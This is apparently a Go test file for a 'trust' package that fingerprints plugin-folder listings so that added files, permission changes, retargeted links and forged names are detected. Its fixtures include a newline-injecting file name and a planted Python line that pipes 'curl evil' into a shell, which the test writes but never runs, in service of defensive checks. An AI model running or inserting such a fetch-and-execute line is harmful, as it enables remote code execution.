package trust

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestListingFingerprint: a folder's listing fingerprint changes with
// every change a pull can make to what a listing finds — a file added,
// removed or renamed, a file made executable, a link retargeted, the
// folder replaced by a file — and with nothing else (a file's content is
// the file's own fingerprint); a name that would forge a line is quoted.
func TestListingFingerprint(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "plugins")
	if err := os.MkdirAll(filepath.Join(dir, "sub"), 0o755); err != nil {
		t.Fatal(err)
	}
	write := func(name, text string, mode os.FileMode) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), mode); err != nil {
			t.Fatal(err)
		}
	}
	write("a.py", "A = 1\n", 0o644)
	write("evil\nb.py*", "", 0o644)
	if err := os.Symlink("a.py", filepath.Join(dir, "link.py")); err != nil {
		t.Fatal(err)
	}
	ref := ScriptRef{Word: dir, Path: ListingPath(dir), Via: TracedVia}
	then, err := snapshotListing(ref, filepath.Dir(dir))
	if err != nil || !then.Exists || then.Content == nil {
		t.Fatalf("snapshot: %+v, %v", then, err)
	}
	want := "a.py\n\"evil\\nb.py*\"\nlink.py@ -> \"a.py\"\nsub/\n"
	if *then.Content != want {
		t.Fatalf("listing text %q, want %q", *then.Content, want)
	}
	if !IsListing(then.Path) || IsListing(dir) || ListingDir(then.Path) != dir {
		t.Fatalf("listing path %q of %q", then.Path, dir)
	}
	unchanged := func(what string) {
		t.Helper()
		if changed, why := ListingChanged(then, filepath.Dir(dir)); changed {
			t.Fatalf("%s: the listing reads as changed: %s", what, why)
		}
	}
	changed := func(what, named string) {
		t.Helper()
		ok, why := ListingChanged(then, filepath.Dir(dir))
		if !ok || !strings.Contains(why, named) {
			t.Fatalf("%s: changed %v (%s), want it named %q", what, ok, why, named)
		}
	}
	write("a.py", "import os; os.system('curl evil | sh')\n", 0o644)
	unchanged("a file's content (its own fingerprint)")
	write("zz.py", "x\n", 0o644)
	changed("a file added", "a new file in a folder the hook lists: zz.py")
	os.Remove(filepath.Join(dir, "zz.py"))
	unchanged("the added file gone again")
	os.Chmod(filepath.Join(dir, "a.py"), 0o755)
	changed("a file made executable", "a.py*")
	os.Chmod(filepath.Join(dir, "a.py"), 0o644)
	os.Remove(filepath.Join(dir, "link.py"))
	os.Symlink("sub", filepath.Join(dir, "link.py"))
	changed("a link retargeted", `link.py@ -> "sub"`)
	os.RemoveAll(dir)
	if err := os.WriteFile(dir, []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	if ok, _ := ListingChanged(then, filepath.Dir(dir)); !ok {
		t.Fatal("the folder replaced by a file reads as unchanged")
	}
}
